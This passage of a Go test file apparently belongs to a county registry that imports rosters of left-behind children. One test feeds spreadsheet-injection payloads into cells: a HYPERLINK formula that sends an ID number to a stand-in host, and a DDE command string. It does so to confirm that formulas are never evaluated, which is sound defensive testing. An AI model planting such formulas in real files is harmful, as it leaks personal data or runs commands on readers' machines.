package registry_test

import (
	"bytes"
	"context"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"shouwang/domain/duty"
	"shouwang/domain/registry"
	"shouwang/domain/registry/registrytest"
	"shouwang/platform/authz"
	"shouwang/platform/fault"
	"shouwang/platform/sheet"
	"shouwang/platform/state"
	"shouwang/platform/store"
	"shouwang/platform/store/storetest"
	"shouwang/platform/tally"
)

// Every name, number and telephone in these tests is invented; the places are
// the county's own.

type fixture struct {
	*registrytest.Register
	imports *registry.Imports
	folder  string
	county  context.Context
	town    context.Context
}

func fixed(t *testing.T, db *store.DB) *fixture {
	t.Helper()
	r := registrytest.New(t, db)
	folder := filepath.Join(t.TempDir(), "imports")
	return &fixture{Register: r, folder: folder, imports: registry.NewImports(r.Registry, r.Jobs, r, folder),
		county: registrytest.As(authz.CivilAffairs, registrytest.County), town: registrytest.As(authz.TownshipSupervisor, registrytest.Town)}
}

func each(t *testing.T, test func(t *testing.T, f *fixture)) {
	t.Helper()
	storetest.Each(t, func(t *testing.T, db *store.DB) { test(t, fixed(t, db)) })
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// page is one sheet of a workbook.
type page struct {
	name   string
	merges []string
	rows   [][]any
}

func workbook(t testing.TB, pages ...page) []byte {
	t.Helper()
	f := excelize.NewFile()
	for i, p := range pages {
		if i == 0 {
			must(t, f.SetSheetName("Sheet1", p.name))
		} else {
			_, err := f.NewSheet(p.name)
			must(t, err)
		}
		for n, row := range p.rows {
			must(t, f.SetSheetRow(p.name, fmt.Sprintf("A%d", n+1), &row))
		}
		for _, m := range p.merges {
			from, to, _ := strings.Cut(m, ":")
			must(t, f.MergeCell(p.name, from, to))
		}
	}
	b, err := f.WriteToBuffer()
	must(t, err)
	must(t, f.Close())
	return b.Bytes()
}

// number is a citizen's number with its check digit.
func number(birth string, order int) string {
	s := "500235" + strings.ReplaceAll(birth, "-", "") + fmt.Sprintf("%03d", order)
	sum := 0
	for i, weight := range [17]int{7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2} {
		sum += int(s[i]-'0') * weight
	}
	return s + string("10X98765432"[sum%11])
}

var plainHeader = []any{"姓名", "性别", "出生日期", "身份证号", "现居住地", "父亲姓名", "父亲务工地点", "母亲姓名", "母亲务工地点", "备注"}

// rosterLine is a row under plainHeader.
func rosterLine(name, birth, id, home string, more ...any) []any {
	return append([]any{name, "", birth, id, home}, more...)
}

func roster(t testing.TB, rows ...[]any) []byte {
	return workbook(t, page{name: "名单", rows: append([][]any{plainHeader}, rows...)})
}

var givenNames = []rune("禾苗青满山海松柏梅兰竹菊春夏秋冬晨曦霞露雨雪风云")

// many are n rows of different children.
func many(n int) (rows [][]any) {
	surnames := []rune("邓郑罗向冉覃谭牟")
	for i := range n {
		born := time.Date(2012, 1, 1, 0, 0, 0, 0, time.UTC).AddDate(0, 0, i*5%4000).Format("2006-01-02")
		name := string([]rune{surnames[i%8], givenNames[i/8%24], givenNames[(i*7+3)%24]})
		father := string([]rune{surnames[i%8], givenNames[(i*5+1)%24], givenNames[(i*11+2)%24]})
		rows = append(rows, rosterLine(name, born, number(born, i%900+10), "外郎乡大花村", father, "广东省深圳市", "", "", ""))
	}
	return rows
}

// bring uploads and checks a roster.
func (f *fixture) bring(t testing.TB, ctx context.Context, data []byte) *registry.Import {
	t.Helper()
	r, err := f.imports.Receive(ctx, "花名册.xlsx", bytes.NewReader(data))
	must(t, err)
	must(t, f.Jobs.Drain(context.Background()))
	return f.stands(t, r.ID)
}

func (f *fixture) stands(t testing.TB, id string) *registry.Import {
	t.Helper()
	i, err := f.imports.Find(f.county, id)
	must(t, err)
	return i
}

// enter brings a roster and posts it.
func (f *fixture) enter(t testing.TB, ctx context.Context, data []byte) *registry.Import {
	t.Helper()
	i := f.bring(t, ctx, data)
	if i.State != registry.ImportChecked {
		t.Fatalf("not checked: %s %s", i.State, i.Reason)
	}
	_, err := f.imports.Post(ctx, i.ID)
	must(t, err)
	must(t, f.Jobs.Drain(context.Background()))
	if i = f.stands(t, i.ID); i.State != registry.ImportPosted {
		t.Fatalf("not posted: %s %s", i.State, i.Reason)
	}
	return i
}

func (f *fixture) rows(t testing.TB, ctx context.Context, id, outcome string) []registry.ImportRow {
	t.Helper()
	rows, err := f.imports.Rows(ctx, id, registry.RowFilter{Outcome: outcome, Limit: 500})
	must(t, err)
	return rows
}

func (f *fixture) count(t testing.TB, text string, args ...any) int {
	t.Helper()
	n, err := store.One[int](context.Background(), f.DB, text, args...)
	must(t, err)
	return n
}

func (f *fixture) children(t testing.TB) int {
	return f.count(t, `select count(*) from registry_child`)
}

func counts(i *registry.Import) [5]int {
	return [5]int{i.Accepted, i.Held, i.Rejected, i.Duplicates, i.Entered}
}

func codes(rows []registry.ImportRow) map[int][]string {
	out := map[int][]string{}
	for _, r := range rows {
		for _, p := range r.Problems {
			out[r.Number] = append(out[r.Number], p.Code)
		}
	}
	return out
}

func TestImport_TheDatabaseHasTheSameMoves(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		rows, err := store.All[struct {
			From string `db:"prior_state"`
			To   string `db:"state"`
		}](context.Background(), f.DB, `select prior_state, state from registry_import_transition order by prior_state, state`)
		must(t, err)
		var got []state.Move
		for _, r := range rows {
			got = append(got, state.Move{From: r.From, To: r.To})
		}
		if diff := cmp.Diff(registry.ImportTransitions.Moves(registry.ImportReceived), got); diff != "" {
			t.Fatal(diff)
		}
	})
}

func TestImport_TheFormOf2016(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		group := []any{"序号", "个人信息", nil, nil, nil, nil, nil, nil, nil, "家庭信息", nil, nil, nil, "监护信息"}
		header := []any{nil, "姓名", "性别", "民族", "出生日期", "公民身份号码", "户籍所在地", "现居住地", "就学情况", "父亲姓名", "父亲务工地点", "母亲姓名", "母亲务工地点", "父母双方同时外出", "一方外出另一方无监护能力", "受委托人姓名", "与儿童关系", "受委托人电话", "监护类型"}
		home := "重庆市云阳县大花村村民委员会"
		row := func(n int, name, sex, birth, id string, rest ...any) []any {
			return append([]any{n, name, sex, "汉", birth, id, home, home}, rest...)
		}
		away := []any{"小学", "邓山", "广东省东莞市", "郑云", "江苏省苏州市", "是", "否", "罗海", "祖父", "13900000001", "监护情况较好"}
		data := workbook(t, page{name: "登记表", merges: []string{"A1:S1", "B3:I3", "J3:M3", "N3:S3", "A3:A4"}, rows: [][]any{
			{"农村留守儿童基本情况登记表"}, {"填报单位：云阳县民政局", nil, nil, "2026年10月"}, group, header,
			row(1, "邓秋禾", "女", "2016-10-31", number("2016-10-31", 12), away...),
			row(2, "郑小满", "男", "2018.10.19", number("2018-10-19", 13), away...),
			row(3, "罗青", "男", "2016年5月8日", number("2016-05-08", 15), away...),
			row(4, "向禾苗", "女", "40978", number("2012-03-10", 16), "小学", "向山", "福建省泉州市", "冉云", "—", "否", "是", "罗海", "祖母", "13900000002", "监护情况一般"),
			row(5, "覃雨", "男", "20190919", number("2019-09-19", 18), away...), // a girl's number
			{"合计", "5人"}, {"说明：本表一式两份。"},
		}})
		i := f.enter(t, f.county, data)
		if diff := cmp.Diff([5]int{4, 1, 0, 0, 4}, counts(i)); diff != "" {
			t.Fatal(diff)
		}
		if diff := cmp.Diff(map[int][]string{9: {"identity.number_sex_disagrees"}}, codes(f.rows(t, f.county, i.ID, "held"))); diff != "" {
			t.Error(diff)
		}
		children, err := f.Registry.List(f.county, registry.Filter{Verdict: registry.Yes, Limit: 50})
		must(t, err)
		if len(children) != 4 {
			t.Fatalf("%d children are left-behind", len(children))
		}
		for _, c := range children {
			if c.Name != "向禾苗" {
				continue
			}
			file, err := f.Registry.Find(f.county, c.ID)
			must(t, err)
			mother := registry.Facts(file.Facts)
			if mother.Value(registry.AboutMother, registry.Ability, registrytest.Today) != "unable" || mother.Value(registry.AboutMother, registry.Absence, registrytest.Today) != "home" {
				t.Errorf("the unable one is not the mother: %+v", file.Facts)
			}
			// The form speaks of October, and says nothing of the days before.
			if fact, _ := mother.On(registry.AboutFather, registry.Absence, registrytest.Today); fact.KnownOn != "2026-10-31" || fact.StartOn != "" || fact.SourceID != i.ID {
				t.Errorf("the father's absence: %+v", fact)
			}
			if len(file.Relatives) != 3 || file.Child.BirthOn != "2012-03-10" {
				t.Errorf("%+v", file)
			}
		}
	})
}

func TestImport_AVillagesOwnListWithASheetForEachVillage(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		header := []any{"组别", "小孩名字", "身份证", "爸爸", "爸爸电话", "在哪里打工", "妈妈", "妈妈电话", "现在跟谁过", "读书学校", "备注"}
		one := page{name: "大花村村民委员会", merges: []string{"A1:K1", "A3:A4"}, rows: [][]any{
			{"大花村村民委员会留守儿童花名册"}, header,
			{"1组", "邓秋禾", number("2016-10-31", 12), "邓山", 13900000001, "新疆", "郑云", nil, "一个人", "镇中心校", "母亲离家多年无音讯"},
			{nil, "郑小满", number("2018-10-19", 14), "郑山", 13900000002, "在家", "罗云", nil, "爷爷奶奶", "镇中心校", "父亲已故"},
			{"小计", "2人"}, {},
			{"2组", "罗青", nil, "罗山", 13900000003, "广东", "向云", nil, "奶奶", "还没读书", "没上户口，奶奶重病"},
		}}
		i := f.enter(t, f.county, workbook(t, one, page{name: "Sheet2", rows: [][]any{{"此表勿动"}, {1, 2, 3}}}))
		if diff := cmp.Diff([5]int{3, 0, 0, 0, 3}, counts(i)); diff != "" {
			t.Fatal(diff)
		}
		raised := map[string][]string{}
		for _, r := range f.rows(t, f.county, i.ID, "") {
			raised[r.Child.Name] = r.Raised
		}
		if diff := cmp.Diff(map[string][]string{"邓秋禾": {"备注提出：母亲失去联系"}, "郑小满": {"备注提出：父亲已去世"},
			"罗青": {"备注提出：未登记户口", "备注提出：奶奶重病或重残"}}, raised); diff != "" {
			t.Error(diff)
		}
		children, err := f.Registry.List(f.county, registry.Filter{Limit: 50})
		must(t, err)
		facts := map[string]map[string]string{}
		for _, c := range children {
			file, err := f.Registry.Find(f.county, c.ID)
			must(t, err)
			facts[c.Name] = map[string]string{"": file.Child.Address}
			for _, fact := range file.Facts {
				facts[c.Name][fact.About+"."+fact.Kind] = fact.Value
			}
		}
		if diff := cmp.Diff(map[string]map[string]string{
			"邓秋禾": {"": "1组", "father.absence": "away", "mother.life": "lost", "child.living": "alone", "child.care": "none"},
			"郑小满": {"": "1组", "father.life": "deceased", "child.living": "accompanied", "child.care": "grandparents"},
			"罗青": {"": "2组", "father.absence": "away", "child.living": "accompanied", "child.care": "grandparents", "child.schooling": "none_yet",
				"child.household": "unregistered", "carer.ability": "unable", "child.care_quality": "insufficient"},
		}, facts); diff != "" {
			t.Error(diff)
		}
	})
}

func TestImport_TheSameFileAgainChangesNothing(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		data := roster(t, many(5)...)
		first := f.enter(t, f.county, data)
		again, err := f.imports.Receive(f.county, "另一个名字.xlsx", bytes.NewReader(data))
		must(t, err)
		if !again.Already || again.ID != first.ID {
			t.Fatalf("%+v, first was %s", again, first.ID)
		}
		must(t, f.Jobs.Drain(context.Background()))
		if n := f.children(t); n != 5 {
			t.Fatalf("%d children", n)
		}
		files, err := os.ReadDir(f.folder)
		must(t, err)
		if len(files) != 1 {
			t.Fatalf("%d files are kept", len(files))
		}
	})
}

func TestImport_TheSameChildrenInAnotherFileAreKnown(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		f.enter(t, f.county, roster(t, many(6)...))
		rows := many(7)
		rows[2] = append(rows[2][:8:8], "广东省东莞市", "") // the mother is away too: the file does not say so
		rows[3][5] = "郑别人"                            // another father's name: no fact, nothing to change
		i := f.enter(t, f.county, roster(t, rows...))
		if diff := cmp.Diff([5]int{6, 1, 0, 6, 6}, counts(i)); diff != "" {
			t.Fatal(diff)
		}
		if n := f.children(t); n != 7 {
			t.Fatalf("%d children", n)
		}
		held := f.rows(t, f.county, i.ID, "held")
		if diff := cmp.Diff(map[int][]string{4: {"twin.differs"}}, codes(held)); diff != "" {
			t.Fatal(diff)
		}
		twin := held[0].Twins[0]
		file, err := f.Registry.Find(f.county, twin.ChildID)
		must(t, err)
		if registry.Facts(file.Facts).Value(registry.AboutMother, registry.Absence, registrytest.Today) != "" {
			t.Fatal("the file was changed before anyone decided")
		}
		_, err = f.imports.Decide(f.county, i.ID, held[0].Seq, registry.RowDecision{Version: held[0].Version, Action: "merge", Child: twin.ChildID})
		must(t, err)
		file, err = f.Registry.Find(f.county, twin.ChildID)
		must(t, err)
		if registry.Facts(file.Facts).Value(registry.AboutMother, registry.Absence, registrytest.Today) != "away" {
			t.Fatalf("not taken over: %+v", file.Facts)
		}
		if diff := cmp.Diff([5]int{7, 0, 0, 6, 7}, counts(f.stands(t, i.ID))); diff != "" {
			t.Fatal(diff)
		}
	})
}

func TestImport_LikelyTwinsGoBeforeAPerson(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		born := "2016-10-31"
		f.enter(t, f.county, roster(t, rosterLine("邓秋禾", born, number(born, 12), "外郎乡大花村", "邓山", "广东")))
		i := f.enter(t, f.county, roster(t,
			rosterLine("邓秋荷", born, "", "外郎乡大花村", "邓山", "广东"),                   // said the same, same day, same father: the same child
			rosterLine("邓秋禾", "2016-10-30", "", "外郎乡大花村", "", ""),               // a day off
			rosterLine("郑小满", "2018-10-19", number("2018-10-19", 14), "外郎乡大花村"), //
			rosterLine("郑小满", "2018-10-19", "", "外郎乡大花村", "", "", "罗云", "浙江"),   // the same row again, knowing more
			rosterLine("罗青", "2019-01-01", number("2019-01-01", 16), "外郎乡大花村"),  //
			rosterLine("向苗", "2019-01-01", number("2019-01-01", 16), "外郎乡大花村"),  // somebody else's number
		))
		if diff := cmp.Diff(map[int][]string{2: {"twin.differs"}, 3: {"twin.child"}, 7: {"twin.row"}}, codes(f.rows(t, f.county, i.ID, "held"))); diff != "" {
			t.Fatal(diff)
		}
		if diff := cmp.Diff([5]int{3, 3, 0, 4, 3}, counts(i)); diff != "" {
			t.Fatal(diff)
		}
		held := f.rows(t, f.county, i.ID, "held")
		// The name differs by a homophone: the file's stands.
		_, err := f.imports.Decide(f.county, i.ID, held[0].Seq, registry.RowDecision{Version: held[0].Version, Action: "keep"})
		must(t, err)
		// A brother: another child.
		_, err = f.imports.Decide(f.county, i.ID, held[1].Seq, registry.RowDecision{Version: held[1].Version, Action: "accept"})
		must(t, err)
		// The number was typed twice; the right one is brought.
		d, err := f.imports.Decide(f.county, i.ID, held[2].Seq, registry.RowDecision{Version: held[2].Version, Action: "fix", Fields: map[string]string{"identity": number("2019-01-01", 18)}})
		must(t, err)
		if d.Outcome != "accepted" || d.ChildID == "" {
			t.Fatalf("%+v", d)
		}
		if n := f.children(t); n != 5 {
			t.Fatalf("%d children", n)
		}
		if diff := cmp.Diff([5]int{6, 0, 0, 4, 6}, counts(f.stands(t, i.ID))); diff != "" {
			t.Fatal(diff)
		}
		// The merged row's mother is on the one file.
		merged, err := f.Registry.List(f.county, registry.Filter{Text: "郑小满", Limit: 9})
		must(t, err)
		if len(merged) != 1 {
			t.Fatalf("%d files", len(merged))
		}
		file, err := f.Registry.Find(f.county, merged[0].ID)
		must(t, err)
		if registry.Facts(file.Facts).Value(registry.AboutMother, registry.Absence, registrytest.Today) != "away" || file.IdentityState != registry.IdentityHeld {
			t.Fatalf("%+v", file)
		}
	})
}

func TestImport_ATwinElsewhereIsNotTold(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		born := "2016-10-31"
		f.enter(t, f.county, roster(t, rosterLine("邓秋禾", born, number(born, 12), "双江街道杏家湾社区", "邓山", "广东")))
		i := f.enter(t, f.town, roster(t, rosterLine("邓秋禾", born, "", "大花村", "邓山", "广东")))
		held := f.rows(t, f.town, i.ID, "held")
		if len(held) != 1 || held[0].CanDecide || !held[0].Twins[0].Elsewhere || held[0].Twins[0].Name != "" || held[0].Twins[0].ChildID != "" {
			t.Fatalf("%+v", held)
		}
		for _, p := range held[0].Problems {
			if strings.Contains(p.Message, "邓") || strings.Contains(p.Message, "双江") {
				t.Errorf("the message gives the other file away: %s", p.Message)
			}
		}
		_, err := f.imports.Decide(f.town, i.ID, held[0].Seq, registry.RowDecision{Version: 1, Action: "accept"})
		if !fault.Is(err, fault.NotFound) {
			t.Fatalf("the township settled what is the county's: %v", err)
		}
		held = f.rows(t, f.county, i.ID, "held")
		if !held[0].CanDecide || held[0].Twins[0].Name != "邓秋禾" {
			t.Fatalf("%+v", held)
		}
		_, err = f.imports.Decide(f.county, i.ID, held[0].Seq, registry.RowDecision{Version: 1, Action: "merge", Child: held[0].Twins[0].ChildID})
		must(t, err)
		if n := f.children(t); n != 1 {
			t.Fatalf("%d children", n)
		}
	})
}

func (f *fixture) duties(t testing.TB, id string) map[string]string {
	t.Helper()
	rows, err := store.All[duty.Duty](context.Background(), f.DB, `
		select region, state, rule from duty_duty where subject_kind = 'import' and subject_id = ? order by region`, id)
	must(t, err)
	out := map[string]string{}
	for _, d := range rows {
		out[d.Region] = string(d.State)
	}
	return out
}

func TestImport_OneWordOnAPlaceSettlesAllRowsThatUseIt(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		rows := func(from int) (out [][]any) {
			for n, row := range many(from + 4)[from:] {
				row[4] = []string{"外郎乡龙河村1组", "外郎乡龙河村2组", "外郎乡龙河村", "外郎乡"}[n]
				out = append(out, row)
			}
			return out
		}
		i := f.enter(t, f.county, roster(t, rows(0)...))
		other := f.bring(t, f.county, roster(t, rows(4)...))
		if i.Held != 4 || other.Held != 4 {
			t.Fatalf("held %d and %d", i.Held, other.Held)
		}
		if diff := cmp.Diff(map[string]string{registrytest.Town: "open"}, f.duties(t, i.ID)); diff != "" {
			t.Fatal(diff)
		}
		held := f.rows(t, f.town, i.ID, "held")
		if len(held) != 4 || !held[0].PlaceAll || held[3].PlaceAll {
			t.Fatalf("the township sees %+v", held)
		}
		d, err := f.imports.DecidePlace(f.county, i.ID, held[0].Seq, registrytest.Village)
		must(t, err)
		if d.Rows != 6 {
			t.Fatalf("%d rows were settled", d.Rows)
		}
		if n := f.children(t); n != 3 {
			t.Fatalf("%d children", n)
		}
		if got := f.stands(t, other.ID); got.Accepted != 3 || got.Held != 1 {
			t.Fatalf("the import still to be posted: %v", counts(got))
		}
		addresses := f.count(t, `select count(*) from registry_child where region = ? and address is not null`, registrytest.Village)
		if addresses != 2 {
			t.Errorf("%d have kept their group", addresses)
		}
		// The last row has only its town: the supervisor says the village.
		held = f.rows(t, f.town, i.ID, "held")
		_, err = f.imports.Decide(f.town, i.ID, held[0].Seq, registry.RowDecision{Version: held[0].Version, Action: "place", Place: registrytest.Village})
		must(t, err)
		if diff := cmp.Diff(map[string]string{registrytest.Town: "discharged"}, f.duties(t, i.ID)); diff != "" {
			t.Fatal(diff)
		}
		// The next roster is not asked again.
		later := f.bring(t, f.county, roster(t, rows(8)[:3]...))
		if later.Accepted != 3 {
			t.Fatalf("asked again: %v", counts(later))
		}
	})
}

func TestImport_ARowOfAnotherTownshipIsHandedOn(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		row := many(1)[0]
		row[4] = "外郎乡龙河村"
		i := f.enter(t, f.county, roster(t, row))
		held := f.rows(t, f.town, i.ID, "held")
		const elsewhere = "500235001001"
		_, err := f.imports.Decide(f.town, i.ID, held[0].Seq, registry.RowDecision{Version: 1, Action: "place", Place: elsewhere})
		must(t, err)
		if diff := cmp.Diff(map[string]string{registrytest.Town: "discharged", registrytest.OtherTown: "open"}, f.duties(t, i.ID)); diff != "" {
			t.Fatal(diff)
		}
		other := registrytest.As(authz.TownshipSupervisor, registrytest.OtherTown)
		held = f.rows(t, other, i.ID, "held")
		if len(held) != 1 {
			t.Fatalf("the other township sees %v", held)
		}
		d, err := f.imports.Decide(other, i.ID, held[0].Seq, registry.RowDecision{Version: held[0].Version, Action: "accept"})
		must(t, err)
		if d.ChildID == "" {
			t.Fatalf("%+v", d)
		}
		if _, err := f.imports.Find(f.town, i.ID); !fault.Is(err, fault.NotFound) {
			t.Errorf("the first township still sees the import: %v", err)
		}
	})
}

// A fuse cuts the context it wraps after so many look-ups of values, which
// every statement makes: a crash at any point, and at the same one each run.
type fuse struct {
	context.Context
	left *atomic.Int64
	cut  context.CancelFunc
}

func (f fuse) Value(key any) any {
	if f.left.Add(-1) == 0 {
		f.cut()
	}
	return f.Context.Value(key)
}

func TestImport_ACrashAnywhereLosesAndDoublesNothing(t *testing.T) {
	rows := append(many(450), rosterLine("", "2016-01-01", "", "大花村"), rosterLine("冉冬", "2016-01-01", "", "龙河村"))
	rows = append(rows, rows[7])
	data := roster(t, rows...)
	each(t, func(t *testing.T, f *fixture) {
		rnd := rand.New(rand.NewPCG(1, 2))
		burn := func() bool {
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			left := new(atomic.Int64)
			left.Store(200 + rnd.Int64N(15000))
			for range 20 {
				n, err := f.Jobs.Step(fuse{ctx, left, cancel})
				if ctx.Err() != nil {
					return true
				}
				if err != nil {
					t.Fatal(err)
				}
				if n == 0 {
					return false
				}
			}
			return false
		}
		work := func(until registry.ImportState, id string) {
			for tries := 0; f.stands(t, id).State != until; tries++ {
				if tries > 400 {
					t.Fatalf("does not come to an end: %+v", f.stands(t, id).State)
				}
				burn()
				f.Clock.Advance(11 * time.Minute) // the dead worker's lease
			}
		}
		r, err := f.imports.Receive(f.county, "x.xlsx", bytes.NewReader(data))
		must(t, err)
		work(registry.ImportChecked, r.ID)
		_, err = f.imports.Post(f.county, r.ID)
		must(t, err)
		work(registry.ImportPosted, r.ID)
		i := f.stands(t, r.ID)
		if diff := cmp.Diff([5]int{451, 1, 1, 1, 451}, counts(i)); diff != "" {
			t.Fatal(diff)
		}
		if n := f.children(t); n != 450 {
			t.Fatalf("%d children", n)
		}
		if n := f.count(t, `select count(*) from journal_line where action = 'child.added'`); n != 450 {
			t.Fatalf("%d lines say a child was added", n)
		}
		if n := f.count(t, `select count(*) from registry_import_row where import_id = ?`, r.ID); n != 453 || i.Done != n || i.Total != n {
			t.Fatalf("%d rows, %d of %d done", n, i.Done, i.Total)
		}
	})
}

func figures(t testing.TB, f *fixture) map[string]int {
	t.Helper()
	out := map[string]int{}
	for _, name := range []string{registry.FigureRegister, registry.FigureVerdict, registry.FigureMissing, registry.FigureLevel, registry.FigureClause, duty.Figure} {
		got, err := tally.Read(context.Background(), f.DB, name, registrytest.County)
		must(t, err)
		for _, g := range got {
			if g.N != 0 {
				out[name+"/"+g.Part] = g.N
			}
		}
	}
	return out
}

func TestImport_UndoTakesAllOfItBackAndNothingElse(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		f.enter(t, f.county, roster(t, many(3)...))
		before := figures(t, f)
		tables := []string{"registry_child", "registry_person", "registry_relation", "registry_fact", "registry_status", "registry_family", "registry_block"}
		sizes := map[string]int{}
		for _, table := range tables {
			sizes[table] = f.count(t, `select count(*) from `+table)
		}
		rows := many(260)[3:]
		rows[250][4] = "龙河村"
		i := f.enter(t, f.county, roster(t, rows...))
		if i.Entered != 256 || f.children(t) != 259 {
			t.Fatalf("%v", counts(i))
		}
		_, err := f.imports.Undo(f.county, i.ID)
		must(t, err)
		must(t, f.Jobs.Drain(context.Background()))
		if got := f.stands(t, i.ID); got.State != registry.ImportUndone {
			t.Fatalf("%s: %s", got.State, got.Reason)
		}
		for _, table := range tables {
			if n := f.count(t, `select count(*) from `+table); n != sizes[table] {
				t.Errorf("%s has %d rows, had %d", table, n, sizes[table])
			}
		}
		if diff := cmp.Diff(before, figures(t, f)); diff != "" {
			t.Errorf("figures (-before +after)\n%s", diff)
		}
		if n := f.count(t, `select count(*) from crypto_key k where k.wrapped is not null and k.owner_id not in (select id from registry_child)
			and k.owner_id not in (select id from registry_person) and k.owner_id not in (select id from registry_import)`); n != 0 {
			t.Errorf("%d keys outlive their people", n)
		}
		if n := f.count(t, `select count(*) from journal_line where action = 'child.removed'`); n != 256 {
			t.Errorf("%d lines say a file was removed", n)
		}
		if diff := cmp.Diff(map[string]string{registrytest.County: "cancelled"}, f.duties(t, i.ID)); diff != "" {
			t.Error(diff)
		}
		// And the same file may be brought anew.
		if again := f.enter(t, f.county, roster(t, rows...)); again.ID == i.ID || f.children(t) != 259 {
			t.Errorf("%v", counts(again))
		}
	})
}

func TestImport_UndoIsRefusedOnceSomethingWasBuiltOnIt(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		i := f.enter(t, f.county, roster(t, many(3)...))
		children, err := f.Registry.List(f.county, registry.Filter{Limit: 9})
		must(t, err)
		_, err = f.Registry.RecordFacts(f.town, children[1].ID, registry.NewFact{About: registry.AboutMother, Kind: registry.Absence, Value: "home"})
		must(t, err)
		_, err = f.imports.Undo(f.county, i.ID)
		if !fault.Is(err, fault.Conflict) || !strings.Contains(fault.Of(err).Text, children[1].Number) || strings.Contains(fault.Of(err).Text, children[0].Number) {
			t.Fatalf("undone, or not told why: %v", err)
		}
		if f.children(t) != 3 || f.stands(t, i.ID).State != registry.ImportPosted {
			t.Fatal("something was taken back all the same")
		}
	})
}

func TestImport_WhatIsNoRosterFailsWithAReason(t *testing.T) {
	locked := append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 600)...)
	each(t, func(t *testing.T, f *fixture) {
		for name, c := range map[string]struct {
			data   []byte
			reason string
		}{
			"pdf":        {[]byte("%PDF-1.7 xxxxx"), "PDF"},
			"old":        {locked, "旧格式"},
			"half a zip": {roster(t, many(3)...)[:900], "损坏"},
			"no table":   {workbook(t, page{name: "说明", rows: [][]any{{"填表说明"}, {"一、由村委会填写。"}}}), "没有在文件里认出名册"},
			"two tables": {workbook(t, page{name: "名单", rows: [][]any{plainHeader, many(1)[0], {}, {"序号", "学校名称", "乡镇", "年级", "姓名"}}}), "不同的表头"},
		} {
			r, err := f.imports.Receive(f.county, name, bytes.NewReader(c.data))
			must(t, err)
			must(t, f.Jobs.Drain(context.Background()))
			if i := f.stands(t, r.ID); i.State != registry.ImportFailed || !strings.Contains(i.Reason, c.reason) {
				t.Errorf("%s: %s %q", name, i.State, i.Reason)
			}
			if again, err := f.imports.Receive(f.county, name, bytes.NewReader(c.data)); err != nil || again.Already {
				t.Errorf("%s: a failed file may be brought again: %v", name, err)
			}
			must(t, f.Jobs.Drain(context.Background()))
		}
		if _, err := f.imports.Receive(f.county, "empty", bytes.NewReader(nil)); !fault.Is(err, fault.Invalid) {
			t.Errorf("an empty file: %v", err)
		}
	})
}

func TestImport_AFormulaIsNeverEvaluated(t *testing.T) {
	f := fixed(t, storetest.SQLite(t))
	row := many(1)[0]
	row[9] = `=HYPERLINK("http://x.example/"&D2,"备注")`
	row[5] = "+cmd|'/c calc'!A0"
	i := f.enter(t, f.county, roster(t, row))
	if diff := cmp.Diff([5]int{1, 0, 0, 0, 1}, counts(i)); diff != "" {
		t.Fatal(diff)
	}
	if diff := cmp.Diff(map[int][]string{2: {"relative.name"}}, codes(f.rows(t, f.county, i.ID, ""))); diff != "" {
		t.Error(diff)
	}
}

func TestImport_ACorrectedMappingIsRememberedForTheHeaders(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		sheetOf := func(n int) []byte {
			rows := [][]any{{"姓名", "身份证号", "娃儿屋头在哪"}}
			for _, r := range many(n) {
				rows = append(rows, []any{r[0], r[3], r[4]})
			}
			return workbook(t, page{name: "名单", rows: rows})
		}
		i := f.bring(t, f.county, sheetOf(2))
		if i.Held != 2 {
			t.Fatalf("%v", counts(i))
		}
		_, err := f.imports.Map(f.county, i.ID, map[int]map[int]string{0: {1: "name", 2: "identity", 3: "home"}})
		must(t, err)
		must(t, f.Jobs.Drain(context.Background()))
		if i = f.stands(t, i.ID); i.State != registry.ImportChecked || i.Accepted != 2 || i.Done != 2 {
			t.Fatalf("%s %v", i.State, counts(i))
		}
		if later := f.bring(t, f.county, sheetOf(3)); later.Accepted != 3 {
			t.Fatalf("not remembered: %v", counts(later))
		}
		mappings, err := f.imports.Mappings(f.county, i.ID)
		must(t, err)
		if c := mappings[0].Columns[2]; c.Field != "home" || c.How != sheet.ByPerson {
			t.Fatalf("%+v", c)
		}
		_, err = f.imports.Post(f.county, i.ID)
		must(t, err)
		if _, err := f.imports.Map(f.county, i.ID, map[int]map[int]string{0: {1: "name"}}); !fault.Is(err, fault.Conflict) {
			t.Errorf("mapped while rows are entered: %v", err)
		}
	})
}

func TestImport_TheWorkbookOfProblemsComesBackMended(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		rows := many(4)
		wrong := rows[1][3].(string)
		rows[1][3] = wrong[:17] + map[bool]string{true: "1", false: "2"}[wrong[17] != '1']
		rows[2][0] = "？？"
		i := f.enter(t, f.county, roster(t, rows...))
		if diff := cmp.Diff([5]int{2, 1, 1, 0, 2}, counts(i)); diff != "" {
			t.Fatal(diff)
		}
		var out bytes.Buffer
		must(t, f.imports.WriteProblems(f.county, i.ID, &out))
		book, err := excelize.OpenReader(&out)
		must(t, err)
		sent, err := book.GetRows("名单")
		must(t, err)
		if len(sent) != 3 {
			t.Fatalf("%d rows went out: %q", len(sent), sent)
		}
		must(t, book.SetCellStr("名单", "D2", wrong))
		must(t, book.SetCellStr("名单", "A3", "冉冬梅"))
		buffer, err := book.WriteToBuffer()
		must(t, err)
		back := f.enter(t, f.county, buffer.Bytes())
		if diff := cmp.Diff([5]int{2, 0, 0, 0, 2}, counts(back)); diff != "" {
			t.Fatal(diff)
		}
